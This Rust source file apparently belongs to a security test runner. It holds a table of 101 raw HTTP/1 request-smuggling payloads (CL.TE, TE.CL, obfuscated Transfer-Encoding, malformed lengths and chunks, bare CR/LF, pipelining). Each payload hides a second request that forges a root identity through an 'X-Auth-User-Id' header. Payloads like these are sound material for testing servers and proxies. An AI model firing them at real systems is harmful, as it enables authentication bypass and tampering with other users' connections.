//! Request smuggling (CWE-444): two servers disagree where a request ends, so that one takes for a body what the other
//! takes for a request.

use crate::runner::Http1;

pub(crate) const HTTP1: [Http1; 101] = [
    Http1 {
        name: "CL.TE: a length that covers what follows the last chunk",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.CL: a length that ends within the first chunk",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n47\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: \r\n0\r\n\r\n",
    },
    Http1 {
        name: "TE.TE: unknown coding",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: unknown coding, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: tab before the value",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: tab before the value, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: vertical tab before the value",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding: \u{b}chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: vertical tab before the value, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: \u{b}chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: space before the colon",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: space before the colon, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: twice, the second unknown",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: twice, the second unknown, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: twice, the first unknown",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: twice, the first unknown, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: identity, chunked",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: identity, chunked, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: chunked, identity",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: chunked, identity, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: chunked, chunked",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: chunked, chunked, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: letter case",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\ntRANSFER-eNCODING: cHUNKED\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: letter case, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}tRANSFER-eNCODING: cHUNKED\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: quoted",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding: \"chunked\"\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: quoted, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: \"chunked\"\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: parameter",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding: chunked;q=1\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: parameter, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked;q=1\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: name after a bare LF",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nX: x\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: name after a bare LF, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}X: x\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: name after a bare CR",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nX: x\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: name after a bare CR, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}X: x\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: name on a folded line",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nX: x\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: name on a folded line, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}X: x\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: value on a folded line",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: value on a folded line, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: underscore",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer_Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: underscore, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer_Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: NUL after the value",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding: chunked\0\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: NUL after the value, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\0\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: byte above ASCII in the value",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding: chunked\u{a0}\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: byte above ASCII in the value, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\u{a0}\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: empty",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nTransfer-Encoding: \r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: empty, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: \r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: named by Connection",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 76\r\nConnection: transfer-encoding\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "TE.TE: named by Connection, without a length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Connection: transfer-encoding\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length twice, the first 0",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 0\r\nContent-Length: 71\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length twice, the second 0",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 71\r\nContent-Length: 0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length twice, the same",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 71\r\nContent-Length: 71\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "lengths in a list",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 0, 71\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length with a sign",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: +71\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "negative length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: -1\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "hexadecimal length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 0x47\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length with an exponent",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 0e1\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length that overflows 64 bits",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 18446744073709551687\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length that overflows 32 bits",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 4294967296\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "empty length",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: \r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length with a blank inside",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 1 0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length of letters",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: abc\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length before a colon with a space",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length : 0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length on a folded line",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length:\r\n 71\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length with an underscore",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content_Length: 71\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length after NUL",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: \x0071\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "length named by Connection",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Connection: content-length\r\nContent-Length: 71\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "chunk extension with a bare LF",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n5;a\nhello\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "chunk extension with a bare CR",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n5;a\rx\r\nhello\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "chunk extension, quoted, with CR LF",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n5;a=\"\r\nhello\r\n0\r\n\r\n\"GET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "chunk extension that looks like a chunk",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n0;\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "chunk size ended by a bare LF",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n5\nhello\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "chunk size with a blank before",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n 5\r\nhello\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "chunk size with a blank after",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n5 \r\nhello\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "chunk size with 0x",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "chunk size with a sign",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n+5\r\nhello\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "negative chunk size",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n-1\r\nhello\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "chunk size with an underscore",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n1_0\r\nhello\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "chunk size that overflows",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n10000000000000005\r\nhello\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "empty chunk size",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n\r\nhello\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "chunk longer than its size",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n5\r\nhelloxx\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "chunk whose data ends with a bare LF",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n5\r\nhello\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "last chunk as 00000",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n00000\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "last chunk without the empty line",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "last chunk ended by bare LFs",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\n\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "a request in the trailers",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n0\r\nX: y\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "no length, no chunks: a body that is none",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}X: y\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "GET with a body of a length",
        bytes: "GET {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 71\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "GET with chunks",
        bytes: "GET {path} HTTP/1.1\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "HEAD with a body",
        bytes: "HEAD {path} HTTP/1.1\r\nHost: a\r\n{auth}Content-Length: 71\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "Expect: 100-continue with both",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Expect: 100-continue\r\nContent-Length: 76\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "Expect with a trick",
        bytes: "POST {path} HTTP/1.1\r\nHost: a\r\n{auth}Expect: y 100-continue\r\nContent-Length: 71\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "HTTP/1.0 with chunks",
        bytes: "POST {path} HTTP/1.0\r\nHost: a\r\n{auth}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "HTTP/1.0 without a host",
        bytes: "GET {path} HTTP/1.0\r\n{auth}\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 { name: "HTTP/0.9", bytes: "GET /api/insights/smuggled\r\n" },
    Http1 {
        name: "HTTP/1.2",
        bytes: "GET {path} HTTP/1.2\r\nHost: a\r\n{auth}\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "HTTP/2.0 in an HTTP/1 request line",
        bytes: "GET {path} HTTP/2.0\r\nHost: a\r\n{auth}\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "bare LF as line end",
        bytes: "GET {path} HTTP/1.1\nHost: a\n{auth}\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "bare LF before a second request",
        bytes: "GET {path} HTTP/1.1\r\nHost: a\r\nX: y\n\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "bare CR before a second request",
        bytes: "GET {path} HTTP/1.1\r\nHost: a\r\nX: y\r\rGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "folded line with a request line",
        bytes: "GET {path} HTTP/1.1\r\nHost: a\r\n{auth}X: y\r\n GET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: \r\n\r\n",
    },
    Http1 {
        name: "first header folded",
        bytes: "GET {path} HTTP/1.1\r\n Host: a\r\n{auth}\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "CR LF before the request line",
        bytes: "\r\n\r\nGET {path} HTTP/1.1\r\nHost: a\r\n{auth}\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "NUL before the request line",
        bytes: "\0GET {path} HTTP/1.1\r\nHost: a\r\n{auth}\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: ",
    },
    Http1 {
        name: "pipelined: a request without a key after one with it",
        bytes: "GET {path} HTTP/1.1\r\nHost: a\r\n{auth}\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    },
    Http1 {
        name: "pipelined: forged identity after a key",
        bytes: "GET {path} HTTP/1.1\r\nHost: a\r\n{auth}\r\nGET /api/insights/smuggled HTTP/1.1\r\nHost: a\r\nX-Auth-User-Id: root\r\nX: y\r\n\r\n",
    },
];
